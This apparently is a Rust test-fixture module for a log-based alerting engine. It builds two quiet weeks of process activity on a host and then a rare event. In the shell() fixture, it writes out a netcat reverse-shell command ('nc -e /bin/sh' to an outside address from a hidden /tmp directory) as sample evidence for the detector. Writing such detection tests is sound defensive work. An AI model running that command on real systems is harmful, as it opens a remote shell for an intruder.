//! Alerts for tests, on evidence that is made the way all is: from the lines of a log.

use crate::alert::Alert;
use crate::alert::scene::{DAY, Scene as Facts};
use crate::engine::Number;
use crate::output::alerts::Writer;
use crate::output::scene::Scene;
use crate::output::{self, Ndjson};

/// The quarter-hour in which something rare happens.
pub(super) const NOW: u32 = 13 * DAY + 41;

/// The facts of two quiet weeks.
pub(super) fn quiet(by: &str) -> Facts {
    let mut facts = Facts::of(by);
    facts.always(0..14 * DAY, "web-01", &["sshd", "ntpd", "nginx", "cron", "node"]);
    facts
}

/// The document of a connection.
pub(super) fn document(scene: &Scene) -> String {
    let mut writer: Box<dyn output::Writer> = Box::new(Ndjson::new());
    scene.written(&mut *writer).trim_end().to_string()
}

/// A shell to somewhere, of which there are two events.
pub(super) fn shell() -> Alert {
    let mut facts = quiet("process.name");
    let mut scene = Scene {
        comm: b"nc".to_vec(),
        exe: b"/usr/bin/nc.openbsd".to_vec(),
        arguments: ["nc", "-e", "/bin/sh", "93.184.216.34", "443"]
            .map(|argument| argument.as_bytes().to_vec())
            .to_vec(),
        directory: b"/tmp/.x".to_vec(),
        ..Scene::default()
    };
    facts.see(NOW, "web-01", b"nc", &document(&scene));
    scene.exit = 0;
    facts.see(NOW, "web-01", b"nc", &document(&scene));
    facts.alert(NOW)
}

/// An alert in which everything that can be has this name.
pub(super) fn named(name: &[u8]) -> Alert {
    let mut facts = quiet("process.name");
    facts.see(NOW, "web-01", name, &document(&Scene::named(name)));
    let mut alert = facts.alert(NOW);
    alert.hosts = vec![name.to_vec(), name.to_vec()];
    alert.finding.partition = Some(name.into());
    let rule = std::sync::Arc::make_mut(&mut alert.rule);
    rule.question.partition = Some("host.name".to_string());
    let text = String::from_utf8_lossy(name).into_owned();
    for field in [&mut rule.title, &mut rule.id, &mut rule.license, &mut rule.ruleset] {
        field.clone_from(&text);
    }
    rule.question.name.clone_from(&text);
    rule.next_steps = vec![text.clone()];
    rule.references = vec![text.clone()];
    rule.threats[0].tactic.name.clone_from(&text);
    rule.threats[0].techniques[0].id.clone_from(&text);
    for influencer in &mut alert.influencers {
        influencer.field.clone_from(&text);
        influencer.values.push((name.to_vec(), Number { number: 1, is_exact: true }));
    }
    alert.excepted = Some(text);
    alert
}

/// All that a writer makes of alerts.
pub(super) fn written(writer: &mut dyn Writer, alerts: &[Alert]) -> String {
    let mut out = Vec::new();
    writer.head(&mut out);
    alerts.iter().for_each(|alert| writer.alert(alert, &mut out));
    String::from_utf8(out).expect("UTF-8")
}
